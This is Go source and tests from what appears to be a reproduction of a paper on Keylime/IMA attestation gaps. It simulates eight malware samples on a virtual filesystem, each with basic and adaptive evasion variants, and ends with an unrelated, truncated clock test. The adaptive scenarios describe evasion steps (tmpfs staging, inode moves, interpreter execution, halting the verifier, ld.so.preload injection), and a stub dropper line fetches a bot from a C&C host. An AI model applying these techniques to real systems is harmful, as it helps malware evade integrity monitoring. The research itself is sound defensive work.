				return err
			}
			if err := e.M.Exec(GCCPath); err != nil {
				return err
			}
			return e.drop("/tmp/diamorphine/diamorphine.ko", []byte("ELF-ko diamorphine"), vfs.ModeRegular)
		}},
		{Name: "test installer in /tmp (measured under excluded path)", Do: func(e *Env) error {
			if err := e.drop("/tmp/diamorphine/install", []byte("\x7fELF installer"), vfs.ModeExecutable); err != nil {
				return err
			}
			return e.M.Exec("/tmp/diamorphine/install")
		}},
		{Name: "move installer to /usr/bin (P4: same inode, no re-measure)", Do: func(e *Env) error {
			if err := e.move("/tmp/diamorphine/install", "/usr/bin/kworker-helper"); err != nil {
				return err
			}
			return e.M.Exec("/usr/bin/kworker-helper")
		}},
		{Name: "insmod from /tmp (P1: path excluded by Keylime)", Final: true, Do: func(e *Env) error {
			return e.M.LoadModule("/tmp/diamorphine/diamorphine.ko")
		}},
	}
	a.reactivate = func(e *Env) error {
		// systemd module autoload reloads the rootkit at boot from its
		// persistent copy; the /tmp copy is gone after reboot, so the
		// module is reinstalled to the modules tree first.
		kver := e.M.RunningKernel()
		target := "/usr/lib/modules/" + kver + "/diamorphine.ko"
		if !e.M.FS().Exists(target) {
			if err := e.drop(target, []byte("ELF-ko diamorphine"), vfs.ModeRegular); err != nil {
				return err
			}
		}
		return e.M.LoadModule(target)
	}
	return a
}

// Reptile is an LKM rootkit with a user-space control client. Its adaptive
// variant demonstrates P2: trigger a benign false positive to halt the
// verifier, then install inside the blind window.
func reptile() *Attack {
	a := &Attack{
		Name:     "Reptile",
		Category: CategoryRootkit,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
	}
	install := func(e *Env) error {
		kver := e.M.RunningKernel()
		if err := e.drop("/usr/lib/modules/"+kver+"/reptile.ko", []byte("ELF-ko reptile"), vfs.ModeRegular); err != nil {
			return err
		}
		if err := e.M.LoadModule("/usr/lib/modules/" + kver + "/reptile.ko"); err != nil {
			return err
		}
		return execArtifact(e, "/usr/local/bin/reptile_cmd", "\x7fELF reptile client")
	}
	a.basic = []Step{
		{Name: "compile", Do: func(e *Env) error {
			if err := e.M.Exec(MakePath); err != nil {
				return err
			}
			return e.M.Exec(GCCPath)
		}},
		{Name: "install module and control client", Final: true, Do: install},
	}
	a.adaptive = []Step{
		{Name: "trigger benign false positive (P2: verifier halts)", Do: func(e *Env) error {
			return e.triggerBenignFP()
		}},
		{Name: "install module and client inside the blind window", Final: true, Do: install},
	}
	a.reactivate = func(e *Env) error {
		return e.M.LoadModule("/usr/lib/modules/" + e.M.RunningKernel() + "/reptile.ko")
	}
	return a
}

// Vlany is an LD_PRELOAD rootkit: a shared object injected into every
// process via /etc/ld.so.preload. Injection happens through FILE_MMAP.
func vlany() *Attack {
	a := &Attack{
		Name:     "Vlany",
		Category: CategoryRootkit,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
	}
	a.basic = []Step{
		{Name: "install shared object", Do: func(e *Env) error {
			return e.drop("/usr/lib/vlany.so", []byte("ELF-so vlany"), vfs.ModeExecutable)
		}},
		{Name: "register in ld.so.preload and inject", Final: true, Do: func(e *Env) error {
			if err := e.M.WriteFile("/etc/ld.so.preload", []byte("/usr/lib/vlany.so\n"), vfs.ModeRegular); err != nil {
				return err
			}
			return e.M.MmapExec("/usr/lib/vlany.so")
		}},
	}
	a.adaptive = []Step{
		{Name: "stage shared object in /tmp", Do: func(e *Env) error {
			return e.drop("/tmp/vlany.so", []byte("ELF-so vlany"), vfs.ModeExecutable)
		}},
		{Name: "test-inject from /tmp (measured under excluded path)", Do: func(e *Env) error {
			return e.M.MmapExec("/tmp/vlany.so")
		}},
		{Name: "move to /usr/lib and inject (P4: no re-measurement)", Do: func(e *Env) error {
			if err := e.move("/tmp/vlany.so", "/usr/lib/vlany.so"); err != nil {
				return err
			}
			if err := e.M.WriteFile("/etc/ld.so.preload", []byte("/usr/lib/vlany.so\n"), vfs.ModeRegular); err != nil {
				return err
			}
			return e.M.MmapExec("/usr/lib/vlany.so")
		}},
		{Name: "hide library and clean traces", Final: true, Do: func(e *Env) error {
			// Userland hiding via the preloaded hooks; no new executions.
			return e.M.OpenRead("/etc/ld.so.preload")
		}},
	}
	a.reactivate = func(e *Env) error {
		// Every process start re-mmaps the preloaded object.
		return e.M.MmapExec("/usr/lib/vlany.so")
	}
	return a
}

// Mirai drops a bot binary and phones home; its loaders conventionally work
// out of world-writable scratch space.
func mirai() *Attack {
	a := &Attack{
		Name:     "Mirai",
		Category: CategoryBotnetCC,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
	}
	a.basic = []Step{
		{Name: "download bot to /usr/local/bin", Do: func(e *Env) error {
			return e.drop("/usr/local/bin/mirai", []byte("\x7fELF mirai"), vfs.ModeExecutable)
		}},
		{Name: "start bot and connect to C&C", Final: true, Do: func(e *Env) error {
			if err := e.M.Exec("/usr/local/bin/mirai"); err != nil {
				return err
			}
			return e.M.WriteFile("/etc/rc.local", []byte("#!/bin/sh\n/usr/local/bin/mirai &\n"), vfs.ModeExecutable)
		}},
	}
	a.adaptive = []Step{
		{Name: "stage bot on tmpfs (P3: IMA ignores /dev/shm)", Do: func(e *Env) error {
			return e.drop("/dev/shm/mirai", []byte("\x7fELF mirai"), vfs.ModeExecutable)
		}},
		{Name: "start bot from tmpfs", Final: true, Do: func(e *Env) error {
			return e.M.Exec("/dev/shm/mirai")
		}},
	}
	a.reactivate = func(e *Env) error {
		// Basic variant persists via rc.local; the tmpfs copy of the
		// adaptive variant is wiped at reboot.
		if e.M.FS().Exists("/usr/local/bin/mirai") {
			return e.M.Exec("/usr/local/bin/mirai")
		}
		return ErrNoPersistence
	}
	return a
}

// BASHLITE (a.k.a. Gafgyt) deploys through shell droppers that fetch and
// start compiled bot binaries.
func bashlite() *Attack {
	a := &Attack{
		Name:     "BASHLITE",
		Category: CategoryBotnetCC,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
	}
	a.basic = []Step{
		{Name: "drop dropper script", Do: func(e *Env) error {
			return e.drop("/usr/local/bin/bashlite.sh", []byte("#!/bin/sh\nwget http://cc/bot\n"), vfs.ModeExecutable)
		}},
		{Name: "run dropper directly (shebang) and start bot", Final: true, Do: func(e *Env) error {
			if err := e.M.Exec("/usr/local/bin/bashlite.sh"); err != nil {
				return err
			}
			return execArtifact(e, "/usr/local/bin/bashlite_bot", "\x7fELF gafgyt bot")
		}},
	}
	a.adaptive = []Step{
		{Name: "stage dropper in /tmp without exec bit", Do: func(e *Env) error {
			return e.drop("/tmp/.bashlite.sh", []byte("wget http://cc/bot"), vfs.ModeRegular)
		}},
		{Name: "run dropper via interpreter (P5: only /bin/sh attested)", Do: func(e *Env) error {
			return e.M.ExecInterpreter(ShellPath, "/tmp/.bashlite.sh")
		}},
		{Name: "start bot from tmpfs (P3)", Final: true, Do: func(e *Env) error {
			if err := e.drop("/dev/shm/.bashlite_bot", []byte("\x7fELF gafgyt bot"), vfs.ModeExecutable); err != nil {
				return err
			}
			return e.M.Exec("/dev/shm/.bashlite_bot")
		}},
	}
	a.reactivate = func(e *Env) error {
		if e.M.FS().Exists("/usr/local/bin/bashlite_bot") {
			return e.M.Exec("/usr/local/bin/bashlite_bot")
		}
		return ErrNoPersistence
	}
	return a
}

// Mortem-qBot's deployment script famously uses /tmp as its working
// directory — the sample through which the paper discovered P1.
func mortemQBot() *Attack {
	a := &Attack{
		Name:     "Mortem-qBot",
		Category: CategoryBotnetCC,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
	}
	a.basic = []Step{
		{Name: "deploy script decompresses and compiles in /tmp", Do: func(e *Env) error {
			if err := e.drop("/tmp/qbot-src.tar.gz", []byte("tarball"), vfs.ModeRegular); err != nil {
				return err
			}
			if err := e.M.Exec(GCCPath); err != nil {
				return err
			}
			return e.drop("/tmp/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable)
		}},
		{Name: "install bot to /usr/local/bin and start", Final: true, Do: func(e *Env) error {
			// The basic attacker copies (not moves) the build output: a
			// fresh file with a fresh inode, measured at exec.
			if err := e.drop("/usr/local/bin/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable); err != nil {
				return err
			}
			return e.M.Exec("/usr/local/bin/qbot")
		}},
	}
	a.adaptive = []Step{
		{Name: "build and test-run in /tmp (measured under excluded path)", Do: func(e *Env) error {
			if err := e.drop("/tmp/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable); err != nil {
				return err
			}
			return e.M.Exec("/tmp/qbot")
		}},
		{Name: "mv to /usr/local/bin and start (P4: inode already cached)", Final: true, Do: func(e *Env) error {
			if err := e.move("/tmp/qbot", "/usr/local/bin/qbot"); err != nil {
				return err
			}
			return e.M.Exec("/usr/local/bin/qbot")
		}},
	}
	a.reactivate = func(e *Env) error {
		if e.M.FS().Exists("/usr/local/bin/qbot") {
			return e.M.Exec("/usr/local/bin/qbot")
		}
		return ErrNoPersistence
	}
	return a
}

// Aoyama is a botnet client implemented entirely in Python: there is no
// compiled payload to attest, so P5 applies to its whole lifecycle.
func aoyama() *Attack {
	a := &Attack{
		Name:            "Aoyama",
		Category:        CategoryBotnetCC,
		Exploits:        []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
		PureInterpreter: true,
	}
	a.basic = []Step{
		{Name: "install bot script with exec bit", Do: func(e *Env) error {
			return e.drop("/usr/local/bin/aoyama.py", []byte("#!/usr/bin/python3\nimport socket\n"), vfs.ModeExecutable)
		}},
		{Name: "run script directly (shebang: script is attested)", Final: true, Do: func(e *Env) error {
			return e.M.Exec("/usr/local/bin/aoyama.py")
		}},
	}
	a.adaptive = []Step{
		{Name: "stage script in /tmp without exec bit", Do: func(e *Env) error {
			return e.drop("/tmp/.aoyama.py", []byte("import socket"), vfs.ModeRegular)
		}},
		{Name: "run via python3 (P5: only the interpreter is attested)", Do: func(e *Env) error {
			return e.M.ExecInterpreter(PythonPath, "/tmp/.aoyama.py")
		}},
		{Name: "persist via cron entry invoking the interpreter", Final: true, Do: func(e *Env) error {
			if err := e.drop("/var/spool/cron/aoyama", []byte("@reboot python3 /var/lib/.aoyama.py"), vfs.ModeRegular); err != nil {
				return err
			}
			return e.drop("/var/lib/.aoyama.py", []byte("import socket"), vfs.ModeRegular)
		}},
	}
	a.reactivate = func(e *Env) error {
		// cron re-launches through the interpreter: still invisible.
		if e.M.FS().Exists("/var/lib/.aoyama.py") {
			return e.M.ExecInterpreter(PythonPath, "/var/lib/.aoyama.py")
		}
		if e.M.FS().Exists("/usr/local/bin/aoyama.py") {
			return e.M.Exec("/usr/local/bin/aoyama.py")
		}
		return ErrNoPersistence
	}
	return a
}

// All returns the eight samples in the paper's Table II order.
func All() []*Attack {
	return []*Attack{
		avosLocker(),
		diamorphine(),
		reptile(),
		vlany(),
		mirai(),
		bashlite(),
		mortemQBot(),
		aoyama(),
	}
}

// ByName returns one sample.
func ByName(name string) (*Attack, error) {
	for _, a := range All() {
		if a.Name == name {
			return a, nil
		}
	}
	return nil, fmt.Errorf("attacks: unknown sample %q", name)
}
