// Package attacks implements the paper's false-negative test suite (§IV):
// eight attack samples across the three categories cloud providers commonly
// face — ransomware, rootkits, and botnet command-and-control — each in a
// *basic* variant (the attacker is unaware of Keylime) and an *adaptive*
// variant that exploits one or more of the five discovered problems:
//
//	P1 — Keylime policy excludes directories (/tmp)
//	P2 — Keylime stops polling on failure (incomplete attestation log)
//	P3 — IMA ignores whole filesystems (tmpfs, procfs, ...)
//	P4 — IMA never re-measures an inode moved within a filesystem
//	P5 — interpreter invocation measures the interpreter, not the script
//
// Attacks are expressed as scenarios: ordered steps of concrete machine
// operations (drop, compile, move, exec, insmod, LD_PRELOAD-style mmap,
// interpreter runs). The experiment harness attests between steps, so
// detection timing (live vs fresh-attestation vs post-reboot) is
// observable. Every file an attack creates or touches is recorded as an
// artifact; "detected" means an attestation failure names an artifact.
package attacks

import (
	"errors"
	"fmt"

	"repro/internal/machine"
	"repro/internal/vfs"
)

// Category classifies an attack.
type Category int

// Attack categories from the paper.
const (
	CategoryRansomware Category = iota + 1
	CategoryRootkit
	CategoryBotnetCC
)

var categoryNames = map[Category]string{
	CategoryRansomware: "Ransomware",
	CategoryRootkit:    "Rootkit",
	CategoryBotnetCC:   "Botnet C&C",
}

// String returns the category label.
func (c Category) String() string {
	if n, ok := categoryNames[c]; ok {
		return n
	}
	return fmt.Sprintf("category(%d)", int(c))
}

// Problem identifies one of the paper's five discovered problems.
type Problem int

// The five problems.
const (
	P1UnmonitoredDirectories Problem = iota + 1
	P2IncompleteAttestationLog
	P3UnmonitoredFilesystems
	P4NoReEvaluation
	P5ScriptInterpreters
)

var problemNames = map[Problem]string{
	P1UnmonitoredDirectories:   "P1",
	P2IncompleteAttestationLog: "P2",
	P3UnmonitoredFilesystems:   "P3",
	P4NoReEvaluation:           "P4",
	P5ScriptInterpreters:       "P5",
}

// String returns the short problem label.
func (p Problem) String() string {
	if n, ok := problemNames[p]; ok {
		return n
	}
	return fmt.Sprintf("P?(%d)", int(p))
}

// Describe returns the paper's one-line description of the problem.
func (p Problem) Describe() string {
	switch p {
	case P1UnmonitoredDirectories:
		return "Unmonitored directories in the Keylime policy (e.g. /tmp)"
	case P2IncompleteAttestationLog:
		return "Keylime stops polling on failure, leaving an incomplete attestation log"
	case P3UnmonitoredFilesystems:
		return "IMA policy ignores whole filesystems (tmpfs, procfs, ...)"
	case P4NoReEvaluation:
		return "IMA does not re-evaluate a file renamed within the same filesystem"
	case P5ScriptInterpreters:
		return "Interpreter invocation attests the interpreter, not the script"
	default:
		return "unknown problem"
	}
}

// Variant selects the attacker model.
type Variant int

// Attack variants.
const (
	// VariantBasic: the attacker is unaware of Keylime.
	VariantBasic Variant = iota + 1
	// VariantAdaptive: the attacker exploits P1-P5 to evade detection.
	VariantAdaptive
)

// String returns the variant label.
func (v Variant) String() string {
	if v == VariantBasic {
		return "basic"
	}
	return "adaptive"
}

// Env is the attack's view of the compromised machine.
type Env struct {
	M *machine.Machine
	// artifacts lists every path the attack created or relocated payloads
	// to; detection is judged against this set.
	artifacts map[string]bool
	// fpPath is the benign file planted to trigger a false positive (P2);
	// it is NOT an artifact — flagging it is not detecting the attack.
	fpPath string
}

// NewEnv wraps a machine for one attack run.
func NewEnv(m *machine.Machine) *Env {
	return &Env{M: m, artifacts: make(map[string]bool)}
}

// Artifacts returns the recorded artifact paths.
func (e *Env) Artifacts() []string {
	out := make([]string, 0, len(e.artifacts))
	for p := range e.artifacts {
		out = append(out, p)
	}
	return out
}

// IsArtifact reports whether path belongs to the attack.
func (e *Env) IsArtifact(path string) bool { return e.artifacts[path] }

// record adds an artifact path.
func (e *Env) record(path string) { e.artifacts[path] = true }

// drop writes an attacker-controlled file and records it.
func (e *Env) drop(path string, content []byte, mode vfs.Mode) error {
	if err := e.M.WriteFile(path, content, mode); err != nil {
		return fmt.Errorf("attacks: dropping %s: %w", path, err)
	}
	e.record(path)
	return nil
}

// move relocates an artifact (the P4 primitive).
func (e *Env) move(from, to string) error {
	if err := e.M.FS().Rename(from, to); err != nil {
		return fmt.Errorf("attacks: moving %s -> %s: %w", from, to, err)
	}
	e.record(to)
	return nil
}

// triggerBenignFP plants and runs a benign executable that is not in the
// policy — the P2 primitive that halts a stop-on-failure verifier.
func (e *Env) triggerBenignFP() error {
	const p = "/usr/local/bin/helpful-utility"
	if err := e.M.WriteFile(p, []byte("\x7fELF benign helper"), vfs.ModeExecutable); err != nil {
		return fmt.Errorf("attacks: planting benign FP file: %w", err)
	}
	e.fpPath = p
	if err := e.M.Exec(p); err != nil {
		return fmt.Errorf("attacks: executing benign FP file: %w", err)
	}
	return nil
}

// FPPath returns the benign decoy path ("" if the attack used none).
func (e *Env) FPPath() string { return e.fpPath }

// Step is one stage of an attack scenario.
type Step struct {
	// Name describes the stage ("stage payload", "load kernel module").
	Name string
	// Final marks the step completing the attack's objective; detection
	// strictly before the final step counts as "live" detection.
	Final bool
	// Do performs the stage's machine operations.
	Do func(*Env) error
}

// Scenario is an ordered attack plan.
type Scenario struct {
	Attack  *Attack
	Variant Variant
	Steps   []Step
}

// Attack describes one sample from the paper's Table II.
type Attack struct {
	Name     string
	Category Category
	// Exploits lists the problems the adaptive variant leans on
	// (reconstructed from the paper's Table II bullets and narrative).
	Exploits []Problem
	// PureInterpreter marks samples implemented entirely in a scripting
	// language (Aoyama): P5 makes them unmitigable today.
	PureInterpreter bool
	basic           []Step
	adaptive        []Step
	// reactivate re-runs the attack's persistence hook after a reboot
	// (what init/cron/module autoload would do), used by the mitigation
	// experiment's "detectable upon reboot" check.
	reactivate func(*Env) error
}

// Scenario returns the step plan for the chosen variant.
func (a *Attack) Scenario(v Variant) Scenario {
	steps := a.basic
	if v == VariantAdaptive {
		steps = a.adaptive
	}
	return Scenario{Attack: a, Variant: v, Steps: steps}
}

// Reactivate replays the persistence hook after a reboot. Attacks without
// persistence return ErrNoPersistence.
func (a *Attack) Reactivate(e *Env) error {
	if a.reactivate == nil {
		return ErrNoPersistence
	}
	return a.reactivate(e)
}

// ErrNoPersistence marks attacks that do not survive a reboot.
var ErrNoPersistence = errors.New("attacks: sample has no persistence mechanism")

// Interpreter and toolchain paths the environment must provide (§IV setup:
// packages aligned with the mirror; these are stand-ins for the build and
// scripting tools every sample relies on).
const (
	ShellPath  = "/bin/sh"
	PythonPath = "/usr/bin/python3"
	MakePath   = "/usr/bin/make"
	GCCPath    = "/usr/bin/gcc"
)

// InstallToolchain writes the interpreter/toolchain binaries the attacks
// invoke. Call it before snapshotting the machine's policy so the tools are
// trusted (they are ordinary distro packages).
func InstallToolchain(m *machine.Machine) error {
	for _, p := range []string{ShellPath, PythonPath, MakePath, GCCPath} {
		if m.FS().Exists(p) {
			continue
		}
		if err := m.WriteFile(p, []byte("\x7fELF "+p), vfs.ModeExecutable); err != nil {
			return fmt.Errorf("attacks: installing toolchain %s: %w", p, err)
		}
	}
	return nil
}
