package attacks

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net/http/httptest"
	"testing"

	"repro/internal/core"
	"repro/internal/ima"
	"repro/internal/keylime/agent"
	"repro/internal/keylime/registrar"
	"repro/internal/keylime/verifier"
	"repro/internal/machine"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// config selects the Table II column being reproduced.
type config int

const (
	configStock config = iota + 1 // paper's experiment setup (problems present)
	configMitigated
)

// testStack is one full deployment per attack run (the paper resets the
// machine to the same initial state before each attack).
type testStack struct {
	m *machine.Machine
	h *Harness
}

// newTestStack builds a machine + Keylime deployment in the given config.
func newTestStack(t *testing.T, cfg config) *testStack {
	t.Helper()
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	var machineOpts []machine.Option
	machineOpts = append(machineOpts, machine.WithTPMOptions(tpm.WithEKBits(1024)))
	if cfg == configMitigated {
		machineOpts = append(machineOpts, machine.WithIMAOptions(
			ima.WithPolicy(ima.MitigatedPolicy()),
			ima.WithReEvaluateOnPathChange(true),
		))
	}
	m, err := machine.New(ca, machineOpts...)
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	if err := InstallToolchain(m); err != nil {
		t.Fatalf("InstallToolchain: %v", err)
	}
	// Victim data for the ransomware sample.
	for i := 0; i < 5; i++ {
		p := fmt.Sprintf("/usr/share/docs/report%d.txt", i)
		if err := m.WriteFile(p, []byte("confidential"), vfs.ModeRegular); err != nil {
			t.Fatalf("WriteFile: %v", err)
		}
	}
	excludes := []string{"/tmp/.*", "/var/log/.*", "/snap/.*"} // the original policy's P1 setup
	if cfg == configMitigated {
		excludes = nil // enriched policy: no directory wildcards
	}
	pol, err := core.SnapshotPolicy(m.FS(), excludes)
	if err != nil {
		t.Fatalf("SnapshotPolicy: %v", err)
	}

	reg := registrar.New(ca.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	t.Cleanup(regSrv.Close)
	ag := agent.New(m)
	agSrv := httptest.NewServer(ag.Handler())
	t.Cleanup(agSrv.Close)
	if err := ag.Register(regSrv.URL, agSrv.URL); err != nil {
		t.Fatalf("agent.Register: %v", err)
	}
	var vOpts []verifier.Option
	if cfg == configMitigated {
		vOpts = append(vOpts, verifier.WithContinueOnFailure(true))
	}
	v := verifier.New(regSrv.URL, vOpts...)
	if err := v.AddAgent(m.UUID(), agSrv.URL, pol); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	// Baseline attestation: the clean machine must pass.
	res, err := v.AttestOnce(context.Background(), m.UUID())
	if err != nil {
		t.Fatalf("baseline AttestOnce: %v", err)
	}
	if res.Failure != nil {
		t.Fatalf("clean machine failed baseline attestation: %+v", res.Failure)
	}
	h := &Harness{Verifier: v, AgentID: m.UUID(), AttestEveryStep: true}
	if cfg == configMitigated {
		h.CheckReboot = true
		h.AttestEveryStep = false
	}
	return &testStack{m: m, h: h}
}

func TestBasicAttacksAllDetected(t *testing.T) {
	for _, a := range All() {
		a := a
		t.Run(a.Name, func(t *testing.T) {
			s := newTestStack(t, configStock)
			env := NewEnv(s.m)
			res, err := s.h.Run(context.Background(), env, a.Scenario(VariantBasic))
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if !res.Outcome.Detected() {
				t.Fatalf("%s basic = %v, want detected (paper Table II)", a.Name, res.Outcome)
			}
			if len(res.ArtifactFailures) == 0 {
				t.Fatal("detected without artifact failures")
			}
		})
	}
}

func TestAdaptiveAttacksAllEvade(t *testing.T) {
	for _, a := range All() {
		a := a
		t.Run(a.Name, func(t *testing.T) {
			s := newTestStack(t, configStock)
			env := NewEnv(s.m)
			res, err := s.h.Run(context.Background(), env, a.Scenario(VariantAdaptive))
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if res.Outcome != OutcomeUndetected {
				t.Fatalf("%s adaptive = %v (failures: %+v), want undetected (paper Table II)",
					a.Name, res.Outcome, res.ArtifactFailures)
			}
		})
	}
}

func TestMitigatedDetectionMatchesPaper(t *testing.T) {
	// Paper §IV-C: with the recommended fixes, 7/8 adaptive attacks become
	// detectable upon reboot or fresh attestation; Aoyama (pure Python)
	// still evades because P5 cannot be fully mitigated.
	for _, a := range All() {
		a := a
		t.Run(a.Name, func(t *testing.T) {
			s := newTestStack(t, configMitigated)
			env := NewEnv(s.m)
			res, err := s.h.Run(context.Background(), env, a.Scenario(VariantAdaptive))
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if a.Name == "Aoyama" {
				if res.Outcome != OutcomeUndetected {
					t.Fatalf("Aoyama mitigated = %v, want undetected (P5 unmitigable)", res.Outcome)
				}
				return
			}
			if !res.Outcome.Detected() {
				t.Fatalf("%s mitigated = %v, want detected", a.Name, res.Outcome)
			}
		})
	}
}

func TestReptileAdaptiveOpensP2BlindWindow(t *testing.T) {
	s := newTestStack(t, configStock)
	env := NewEnv(s.m)
	a, err := ByName("Reptile")
	if err != nil {
		t.Fatalf("ByName: %v", err)
	}
	res, err := s.h.Run(context.Background(), env, a.Scenario(VariantAdaptive))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if !res.HaltedDuringRun {
		t.Fatal("P2 attack did not halt the verifier")
	}
	// The only failures must be the benign decoy, never the rootkit.
	if len(res.ArtifactFailures) != 0 {
		t.Fatalf("artifact failures inside blind window: %+v", res.ArtifactFailures)
	}
	if len(res.OtherFailures) == 0 {
		t.Fatal("no decoy failure recorded")
	}
	if res.OtherFailures[0].Path != env.FPPath() {
		t.Fatalf("decoy failure path = %q, want %q", res.OtherFailures[0].Path, env.FPPath())
	}
}

func TestSamplesMetadata(t *testing.T) {
	all := All()
	if len(all) != 8 {
		t.Fatalf("All() = %d samples, want 8", len(all))
	}
	categories := map[Category]int{}
	for _, a := range all {
		categories[a.Category]++
		if len(a.basic) == 0 || len(a.adaptive) == 0 {
			t.Fatalf("%s missing scenario steps", a.Name)
		}
		finals := 0
		for _, st := range a.adaptive {
			if st.Final {
				finals++
			}
		}
		if finals != 1 {
			t.Fatalf("%s adaptive has %d final steps, want exactly 1", a.Name, finals)
		}
		if len(a.Exploits) == 0 {
			t.Fatalf("%s lists no exploitable problems", a.Name)
		}
	}
	if categories[CategoryRansomware] != 1 || categories[CategoryRootkit] != 3 || categories[CategoryBotnetCC] != 4 {
		t.Fatalf("category split = %v, want 1/3/4", categories)
	}
	// Per the paper, P5 applies to all samples except AvosLocker.
	for _, a := range all {
		hasP5 := false
		for _, p := range a.Exploits {
			if p == P5ScriptInterpreters {
				hasP5 = true
			}
		}
		if a.Name == "AvosLocker" && hasP5 {
			t.Fatal("AvosLocker must not list P5 (binary-only sample)")
		}
		if a.Name != "AvosLocker" && !hasP5 {
			t.Fatalf("%s must list P5", a.Name)
		}
	}
	onlyPure := 0
	for _, a := range all {
		if a.PureInterpreter {
			onlyPure++
			if a.Name != "Aoyama" {
				t.Fatalf("%s marked pure-interpreter", a.Name)
			}
		}
	}
	if onlyPure != 1 {
		t.Fatalf("pure-interpreter samples = %d, want 1 (Aoyama)", onlyPure)
	}
}

func TestByNameUnknown(t *testing.T) {
	if _, err := ByName("NotARealSample"); err == nil {
		t.Fatal("ByName of unknown sample succeeded")
	}
}

func TestProblemDescriptions(t *testing.T) {
	for _, p := range []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog,
		P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters} {
		if p.Describe() == "unknown problem" {
			t.Fatalf("%v lacks a description", p)
		}
		if p.String() == "" {
			t.Fatalf("%v lacks a label", p)
		}
	}
}

func TestOutcomeSymbols(t *testing.T) {
	cases := map[Outcome]string{
		OutcomeDetectedLive:   "✓",
		OutcomeDetectedFresh:  "✓*",
		OutcomeDetectedReboot: "✓*",
		OutcomeUndetected:     "✗",
	}
	for o, want := range cases {
		if got := o.Symbol(); got != want {
			t.Fatalf("%v.Symbol() = %q, want %q", o, got, want)
		}
	}
	if OutcomeUndetected.Detected() {
		t.Fatal("undetected reports detected")
	}
	if !OutcomeDetectedReboot.Detected() {
		t.Fatal("reboot detection not counted as detected")
	}
}

func TestEnvArtifactTracking(t *testing.T) {
	s := newTestStack(t, configStock)
	env := NewEnv(s.m)
	if err := env.drop("/tmp/x", []byte("x"), vfs.ModeExecutable); err != nil {
		t.Fatalf("drop: %v", err)
	}
	if err := env.move("/tmp/x", "/usr/bin/x"); err != nil {
		t.Fatalf("move: %v", err)
	}
	for _, p := range []string{"/tmp/x", "/usr/bin/x"} {
		if !env.IsArtifact(p) {
			t.Fatalf("%s not tracked as artifact", p)
		}
	}
	if env.IsArtifact("/usr/bin/ls") {
		t.Fatal("unrelated path tracked as artifact")
	}
}

func TestReactivateWithoutPersistence(t *testing.T) {
	s := newTestStack(t, configStock)
	env := NewEnv(s.m)
	a, err := ByName("Mirai")
	if err != nil {
		t.Fatalf("ByName: %v", err)
	}
	// Adaptive Mirai lives on tmpfs only: after a reboot there is nothing
	// to reactivate.
	sc := a.Scenario(VariantAdaptive)
	for _, st := range sc.Steps {
		if err := st.Do(env); err != nil {
			t.Fatalf("step: %v", err)
		}
	}
	if err := env.M.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	if err := a.Reactivate(env); !errors.Is(err, ErrNoPersistence) {
		t.Fatalf("Reactivate = %v, want ErrNoPersistence", err)
	}
}
