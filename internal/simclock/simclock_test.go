package simclock

import (
	"sync"
	"testing"
	"time"
)

var epoch = time.Date(2024, 2, 26, 0, 0, 0, 0, time.UTC)

func TestSimulatedNowStartsAtEpoch(t *testing.T) {
	c := NewSimulated(epoch)
	if got := c.Now(); !got.Equal(epoch) {
		t.Fatalf("Now() = %v, want %v", got, epoch)
	}
}

func TestSimulatedAdvanceMovesNow(t *testing.T) {
	c := NewSimulated(epoch)
	c.Advance(90 * time.Minute)
	want := epoch.Add(90 * time.Minute)
	if got := c.Now(); !got.Equal(want) {
		t.Fatalf("Now() = %v, want %v", got, want)
	}
}

func TestSimulatedAfterFiresAtDeadline(t *testing.T) {
	c := NewSimulated(epoch)
	ch := c.After(10 * time.Second)
	select {
	case <-ch:
		t.Fatal("timer fired before Advance")
	default:
	}
	c.Advance(9 * time.Second)
	select {
	case <-ch:
		t.Fatal("timer fired before deadline")
	default:
	}
	c.Advance(time.Second)
	select {
	case at := <-ch:
		if want := epoch.Add(10 * time.Second); !at.Equal(want) {
			t.Fatalf("fired at %v, want %v", at, want)
		}
	default:
		t.Fatal("timer did not fire at deadline")
	}
}

func TestSimulatedAfterNonPositiveFiresImmediately(t *testing.T) {
	c := NewSimulated(epoch)
	select {
	case <-c.After(0):
	default:
		t.Fatal("After(0) did not fire immediately")
	}
	select {
	case <-c.After(-time.Second):
	default:
		t.Fatal("After(-1s) did not fire immediately")
	}
}

func TestSimulatedTimersFireInDeadlineOrder(t *testing.T) {
	c := NewSimulated(epoch)
	var mu sync.Mutex
	var order []int
	var wg sync.WaitGroup
	for i, d := range []time.Duration{30 * time.Second, 10 * time.Second, 20 * time.Second} {
		wg.Add(1)
		ch := c.After(d)
		go func(i int) {
			defer wg.Done()
			<-ch
			mu.Lock()
			order = append(order, i)
			mu.Unlock()
		}(i)
	}
	// Fire one at a time so goroutine scheduling cannot reorder appends.
	for j := 0; j < 3; j++ {
		c.Advance(10 * time.Second)
		time.Sleep(10 * time.Millisecond)
	}
	wg.Wait()
